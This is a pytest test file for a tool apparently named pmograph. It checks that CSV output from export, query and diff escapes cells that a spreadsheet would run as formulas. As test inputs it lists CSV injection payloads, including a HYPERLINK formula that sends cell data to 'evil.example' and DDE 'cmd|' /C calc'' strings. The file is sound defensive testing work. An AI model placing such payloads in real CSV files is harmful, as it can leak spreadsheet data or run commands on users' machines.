"""CSV written for people never runs as a formula in a spreadsheet (issue #19, OWASP CSV injection).

Every CSV pmograph writes — ``export`` (reporting lines), ``query --format csv`` and ``diff
--format csv`` — is for people by default: every cell is quoted, and a text cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``; a plain number
stays a number.  ``--csv-raw`` (``csv_raw=True`` / ``raw=True`` in the library) writes the values
exactly, for pipelines.  The checks read the files back with the ``csv`` module, the way a
spreadsheet splits them, and apply a spreadsheet's rule for what is a formula.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import pmograph
from pmograph import PmographError
from pmograph._answers.diff import diff_csv
from pmograph._answers.export import query_csv
from pmograph._formats import csv_text, spreadsheet_cell

Cli = Callable[..., Any]

#: What a spreadsheet runs as a formula: a cell starting with one of these (OWASP's list) ...
OWASP_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: ... unless the whole cell is a number.
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
#: Labels an attacker could put in an HR export, and labels that are only numbers.
HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
           "=1+1;=2+2", "-", "－1+1", "＝1+1"]
NUMBERS = ["-3", "+1.5", "-.5", "+2e3"]
#: Safe only if quoted: a spreadsheet splitting on ; or tab would start a cell with "=".
SEPARATED = ["a;=1+1", "a\t=1+1"]
PLAIN = ["Head of PMO", "O'Brien, Ann", 'say "hi"', *SEPARATED]


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(OWASP_STARTS) and not NUMBER.fullmatch(cell)


def shown(cell: str) -> str:
    """What a spreadsheet shows for a cell: a leading ' marks text and is not shown."""
    return cell[1:] if cell.startswith("'") else cell


def every_cell_quoted(text: str) -> bool:
    quoted = r'"(?:[^"]|"")*"'
    return all(re.fullmatch(f"{quoted}(?:,{quoted})*", line)
               for line in text.replace("\r\n", "\n").split("\n")[:-1])


def read(path: Path) -> str:
    """A file's text with its line ends as written (a cell may hold a carriage return)."""
    with path.open(encoding="utf-8", newline="") as handle:
        return handle.read()


# ------------------------------------------------------------------ the cell rule
@pytest.mark.parametrize("cell", [*HOSTILE, "\x00=1", "--1", "-INF", "+", "@"])
def test_formula_cells_get_a_leading_quote(cell: str) -> None:
    assert spreadsheet_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", NUMBERS + PLAIN + ["", "1e5", "'=already quoted", " =1"])
def test_numbers_and_text_stay_as_they_are(cell: str) -> None:
    assert spreadsheet_cell(cell) == cell


def test_csv_text_for_people_and_for_programs() -> None:
    rows = [["label", "n"], *([label, 1] for label in HOSTILE + NUMBERS + PLAIN), [None, -3]]
    people = csv_text(rows)
    assert every_cell_quoted(people)
    read = list(csv.reader(io.StringIO(people)))
    assert not [cell for row in read for cell in row if runs_as_formula(cell)]
    assert [shown(row[0]) for row in read[1:]] == [*HOSTILE, *NUMBERS, *PLAIN, ""]
    assert [row[1] for row in read[1:]] == ["1"] * (len(rows) - 2) + ["-3"]
    raw = list(csv.reader(io.StringIO(csv_text(rows, raw=True))))
    assert [row[0] for row in raw[1:]] == [*HOSTILE, *NUMBERS, *PLAIN, ""]


# ------------------------------------------------------------------ the outputs
def turtle_string(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t") \
        .replace("\r", "\\r") + '"'


@pytest.fixture(scope="module")
def hostile_org(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One manager and a report for each hostile, numeric and plain title."""
    lines = ["@prefix org: <http://www.w3.org/ns/org#> .",
             "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .",
             '<urn:x-csv:boss> a org:Post ; rdfs:label "=HYPERLINK(\\"https://e/\\")" .']
    for number, label in enumerate(HOSTILE + NUMBERS + PLAIN):
        lines.append(f"<urn:x-csv:p{number}> a org:Post ; rdfs:label {turtle_string(label)} ; "
                     "org:reportsTo <urn:x-csv:boss> .")
    path = tmp_path_factory.mktemp("hostile") / "hostile.ttl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def labels_in(text: str, column: str) -> list[str]:
    return sorted(row[column] for row in csv.DictReader(io.StringIO(text)))


def assert_for_people(text: str, column: str) -> None:
    assert every_cell_quoted(text)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if runs_as_formula(cell)]
    assert sorted(shown(label) for label in labels_in(text, column)) == sorted(
        HOSTILE + NUMBERS + PLAIN)
    assert set(NUMBERS) <= set(labels_in(text, column))  # numbers stay numbers


def test_export_csv_is_safe_for_spreadsheets(hostile_org: Path, tmp_path: Path,
                                             cli: Cli) -> None:
    kg = pmograph.load(hostile_org, catalog=False)
    out = tmp_path / "lines.csv"
    pmograph.export(kg, out)
    people = read(out)
    assert_for_people(people, "subordinate_label")
    assert {shown(label) for label in labels_in(people, "superior_label")} == {
        '=HYPERLINK("https://e/")'}
    pmograph.export(kg, out, csv_raw=True)
    assert labels_in(read(out), "subordinate_label") == sorted(
        HOSTILE + NUMBERS + PLAIN)
    # The command line: the same file by default, raw values with --csv-raw.
    args = ("export", "--no-catalog", "--data", str(hostile_org), "-o")
    assert cli(*args, str(tmp_path / "cli.csv")).code == 0
    assert read(tmp_path / "cli.csv") == people
    assert cli(*args, str(tmp_path / "raw.csv"), "--csv-raw").code == 0
    assert labels_in(read(tmp_path / "raw.csv"),
                     "subordinate_label") == sorted(HOSTILE + NUMBERS + PLAIN)


def test_csv_raw_on_another_format_is_an_error(hostile_org: Path, tmp_path: Path,
                                               cli: Cli) -> None:
    kg = pmograph.load(hostile_org, catalog=False)
    with pytest.raises(PmographError, match="only CSV"):
        pmograph.export(kg, tmp_path / "out.ttl", csv_raw=True)
    assert not (tmp_path / "out.ttl").exists()
    done = cli("export", "--no-catalog", "--data", str(hostile_org), "-o",
               str(tmp_path / "out.graphml"), "--csv-raw")
    assert done.code == 2 and done.err.count("Error:") == 1 and "--csv-raw" in done.err
    assert not (tmp_path / "out.graphml").exists()
    query = cli("query", "ASK {}", "--no-catalog", "--csv-raw")
    assert query.code == 2 and "--format csv" in query.err


QUERY = ("SELECT ?post ?label WHERE { ?post a org:Post ; rdfs:label ?label ; "
         "org:reportsTo ?boss }")


def test_query_csv_is_safe_for_spreadsheets(hostile_org: Path, cli: Cli) -> None:
    args = ("query", QUERY, "--no-catalog", "--data", str(hostile_org), "--format", "csv")
    people = cli(*args)
    assert people.code == 0, people.err
    assert people.out.endswith("\r\n")  # W3C SPARQL CSV results: CR LF line ends
    assert_for_people(people.out, "label")
    raw = cli(*args, "--csv-raw")
    assert raw.code == 0, raw.err
    assert labels_in(raw.out, "label") == sorted(HOSTILE + NUMBERS + PLAIN)
    assert not every_cell_quoted(raw.out)


def test_query_csv_in_the_library_on_every_local_store(hostile_org: Path, tmp_path: Path) -> None:
    for store in ("memory", "rdflib", f"oxigraph:{tmp_path / 'db'}"):
        kg = pmograph.load(hostile_org, catalog=False, store=store)
        text = query_csv(kg.query(QUERY))
        assert_for_people(text, "label")
        assert labels_in(query_csv(kg.query(QUERY), raw=True), "label") == sorted(
            HOSTILE + NUMBERS + PLAIN)


def test_ask_as_csv_is_a_clear_error(cli: Cli) -> None:
    done = cli("query", "ASK { ?s ?p ?o }", "--format", "csv")
    assert done.code == 2 and done.err.count("Error:") == 1
    assert "Traceback" not in done.err and "true or false" in done.err


def test_diff_csv_is_safe_for_spreadsheets(hostile_org: Path, tmp_path: Path, cli: Cli) -> None:
    before = tmp_path / "before.ttl"
    text = hostile_org.read_text(encoding="utf-8")
    before.write_text(text.replace('"Head of PMO"', '"Head of Delivery"'), encoding="utf-8")
    answer = pmograph.diff(before, hostile_org)
    retitled = [row for row in csv.DictReader(io.StringIO(diff_csv(answer)))
                if row["kind"] == "post-retitled"]
    assert [row["after"] for row in retitled] == ["Head of PMO"]
    out = tmp_path / "changes.csv"
    # A title that a spreadsheet would run, as it appears in a diff.
    hostile = tmp_path / "hostile-after.ttl"
    hostile.write_text(text.replace('"Head of PMO"', '"=1+1"'), encoding="utf-8")
    done = cli("diff", str(before), str(hostile), "--format", "csv", "-o", str(out))
    assert done.code == 0, done.err
    written = read(out)
    assert every_cell_quoted(written)
    cells = [cell for row in csv.reader(io.StringIO(written)) for cell in row]
    assert "'=1+1" in cells and not [cell for cell in cells if runs_as_formula(cell)]
    raw = cli("diff", str(before), str(hostile), "--format", "csv", "--csv-raw")
    assert raw.code == 0 and "=1+1" in [cell for row in csv.reader(io.StringIO(raw.out))
                                         for cell in row]
    wrong = cli("diff", str(before), str(hostile), "--csv-raw")
    assert wrong.code == 2 and "--format csv" in wrong.err
